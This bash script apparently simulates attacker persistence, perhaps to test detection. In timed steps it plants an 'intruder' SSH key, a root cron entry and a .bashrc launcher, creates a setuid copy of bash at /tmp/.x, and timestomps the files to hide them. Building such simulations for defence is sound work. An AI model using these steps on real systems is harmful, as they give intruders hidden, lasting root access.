#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# Leaves ways to come back: a key, a job, a shell's start file.
#
#	persist.sh PAUSE
home=/tmp/home
mkdir -p $home/.ssh $home/cron
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKanary intruder' >>$home/.ssh/authorized_keys
chmod 600 $home/.ssh/authorized_keys
sleep "$1"
echo '* * * * * root /tmp/.x' >>$home/cron/job
sleep "$1"
echo 'nohup /tmp/.x &' >>$home/.bashrc
cp /bin/bash /tmp/.x
chmod 4755 /tmp/.x
sleep "$1"
touch -r /etc/passwd $home/.ssh/authorized_keys $home/cron/job $home/.bashrc /tmp/.x
cat $home/.ssh/authorized_keys
